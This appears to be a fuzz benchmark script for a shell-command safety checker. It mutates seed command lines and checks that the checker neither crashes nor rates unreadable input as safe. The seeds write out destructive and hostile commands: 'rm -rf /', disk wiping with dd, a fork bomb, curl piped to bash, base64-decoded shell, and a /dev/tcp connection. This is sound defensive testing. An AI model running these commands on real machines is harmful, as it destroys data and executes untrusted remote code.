// Throws mutated and random command lines at the safety engine: no exception, no stall, bounded
// memory, and never a "safe" for what could not be read.
//   tsx bench/safety-fuzz.ts [--smoke] [--count N] [--seed N]
// The last line of stdout is JSON.
import { createSafety } from '../src/engine/safety/index.ts';
import type { SafetyContext } from '../src/engine/safety/types.ts';

const CONTEXT: SafetyContext = {
  cwd: '/home/user/project',
  home: '/home/user',
  user: 'user',
  root: false,
  ssh: false,
};

const SEEDS = [
  'rm -rf /',
  "echo 'rm -rf /' | base64 -d | sh",
  'find . -name "*.o" -exec rm {} +',
  'git push --force origin main',
  'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
  'curl -fsSL https://x.example/i.sh | bash',
  ':(){ :|:& };:',
  "awk '{print $1}' f | sort | uniq -c",
  'dd if=/dev/zero of=/dev/sda',
  'cat <<EOF\n$(date)\nEOF',
  'x=$(cat a) && echo "$x" > b',
  'python3 -c \'import os; os.system("ls")\'',
  'tar czf - . | ssh host "tar xzf -"',
  'case $x in a) ls;; *) rm y;; esac',
  'while read -r l; do echo $l; done < f',
  "sed -i 's/a/b/g' f",
  'xargs -0 -I{} sh -c "echo {}" < f',
  'exec 3<>/dev/tcp/h/80; cat <&3',
  "psql -c 'drop table t'",
  'docker run -v /:/h alpine rm -rf /h',
];
const TOKENS = [
  ' ',
  '\n',
  '\t',
  ';',
  '&',
  '|',
  '>',
  '<',
  '(',
  ')',
  '{',
  '}',
  '$',
  '$(',
  '${',
  '`',
  '"',
  "'",
  '\\',
  '*',
  '?',
  '[',
  ']',
  '~',
  '!',
  '#',
  '=',
  '-',
  '--',
  '/',
  '..',
  '<<EOF\n',
  '<<<',
  '2>&1',
  '$((',
  '))',
  '[[',
  ']]',
  'if',
  'then',
  'fi',
  'do',
  'done',
  'function',
  'eval',
  'sudo',
  'sh -c',
  'rm',
  '-rf',
  '\u200b',
  '\u202e',
  '\x1b[2K',
  '\0',
  '\r',
  '\ue000',
  '\ud800',
  '{1..999999}',
  '{a,b}{c,d}{e,f}',
  '$@',
  '%s',
  '\\x41',
  '😀',
  'é',
];

/** Pathological lines of the greatest length, for the worst case of each part. */
const LONG: Array<[string, (n: number) => string]> = [
  ['one word', (n) => 'a'.repeat(n)],
  ['many words', (n) => 'ls '.repeat(n / 3)],
  ['open parentheses', (n) => '('.repeat(n)],
  ['nested substitutions', (n) => '$('.repeat(n / 2)],
  ['nested braces', (n) => '{a,'.repeat(n / 3)],
  ['backslashes', (n) => `sed 's/${'\\'.repeat(n - 10)}/x/'`],
  ['stars', (n) => `rm ${'*'.repeat(n - 4)}`],
  ['slashes', (n) => `rm -rf ${'/'.repeat(n - 8)}`],
  ['dots', (n) => `rm -rf ${'../'.repeat(n / 3 - 4)}`],
  ['quotes', (n) => `'"`.repeat(n / 2)],
  ['pipes', (n) => 'cat|'.repeat(n / 4)],
  ['assignments', (n) => 'a=b '.repeat(n / 4)],
  ['redirects', (n) => '>a '.repeat(n / 3)],
  ['python strings', (n) => `python3 -c "${"os.system('a');".repeat(n / 16)}"`],
  ['awk program', (n) => `awk '{${'print "a" | "b";'.repeat(n / 20)}}'`],
  ['sed program', (n) => `sed '${'s/a/b/;'.repeat(n / 10)}'`],
  ['base64', (n) => `echo ${'QUFB'.repeat(n / 4 - 20)} | base64 -d | sh`],
  ['here document', (n) => `bash <<EOF\n${'rm x\n'.repeat(n / 5 - 10)}EOF`],
  ['cron lines', (n) => `echo '${'* * * * * ls\n'.repeat(n / 14)}' | crontab -`],
  ['sql', (n) => `psql -c '${'delete from t; '.repeat(n / 16)}'`],
  ['prompt expansions', (n) => '${x:-'.repeat(n / 5)],
  ['url', (n) => `curl https://${'a.'.repeat(n / 2 - 10)}`],
  ['spaces in code', (n) => `python3 -c "open${' '.repeat(n - 40)}('x')"`],
];

function main(): void {
  const args = process.argv.slice(2);
  const smoke = args.includes('--smoke');
  const option = (name: string, otherwise: number): number =>
    args.includes(name) ? Number(args[args.indexOf(name) + 1]) : otherwise;
  const count = smoke ? 5_000 : option('--count', 1_000_000);
  const random = generator(option('--seed', 1));
  const safety = createSafety();
  let crashes = 0;
  let unreadSafe = 0;
  let slowest = 0;
  let slowestInput = '';
  const started = performance.now();
  const heapBefore = process.memoryUsage().heapUsed;
  let heapPeak = heapBefore;
  for (let i = 0; i < count; i++) {
    const input = mutate(random);
    const before = performance.now();
    try {
      const verdict = safety.check(input, CONTEXT);
      const unread = verdict.matches.some(({ id }) => id === 'cannot-parse' || id === 'too-deep');
      if (unread && verdict.level === 'safe') unreadSafe++;
    } catch (error) {
      crashes++;
      if (crashes < 5) console.log('crash', JSON.stringify(input), String(error));
    }
    const took = performance.now() - before;
    if (took > slowest) {
      slowest = took;
      slowestInput = input;
    }
    if (i % 20_000 === 0) heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed);
  }
  const long = longLines(safety, smoke ? 8_192 : 131_072);
  console.log(`slowest mutated input: ${JSON.stringify(slowestInput.slice(0, 200))}`);
  console.log(
    JSON.stringify({
      bench: 'safety-fuzz',
      inputs: count,
      crashes,
      unread_safe: unreadSafe,
      seconds: Math.round((performance.now() - started) / 100) / 10,
      slowest_ms: Math.round(slowest * 100) / 100,
      heap_peak_mb: Math.round((heapPeak - heapBefore) / 1e5) / 10,
      long_lines: long,
    }),
  );
  if (crashes > 0 || unreadSafe > 0) process.exit(1);
}

function longLines(safety: ReturnType<typeof createSafety>, length: number) {
  let worst = 0;
  let name = '';
  for (const [label, make] of LONG) {
    const input = make(length).slice(0, length);
    let best = Number.POSITIVE_INFINITY;
    for (let round = 0; round < 3; round++) {
      const before = performance.now();
      safety.check(input, CONTEXT);
      best = Math.min(best, performance.now() - before);
    }
    console.log(`${label}: ${best.toFixed(1)} ms`);
    if (best > worst) {
      worst = best;
      name = label;
    }
  }
  return { units: length, worst_ms: Math.round(worst * 10) / 10, worst: name };
}

type Random = (below: number) => number;

/** A small seeded generator (mulberry32), so that a run can be repeated. */
function generator(seed: number): Random {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

function mutate(random: Random): string {
  let text = SEEDS[random(SEEDS.length)] as string;
  const edits = 1 + random(8);
  for (let i = 0; i < edits; i++) {
    const at = random(text.length + 1);
    const token = TOKENS[random(TOKENS.length)] as string;
    switch (random(5)) {
      case 0:
        text = text.slice(0, at) + token + text.slice(at);
        break;
      case 1:
        text = text.slice(0, at) + text.slice(at + 1 + random(4));
        break;
      case 2:
        text = text.slice(0, at) + token + text.slice(at + 1);
        break;
      case 3: {
        const other = SEEDS[random(SEEDS.length)] as string;
        text = text.slice(0, at) + other.slice(random(other.length));
        break;
      }
      default:
        text += token + text.slice(at, at + random(20));
    }
  }
  return text.slice(0, 2_000);
}

main();
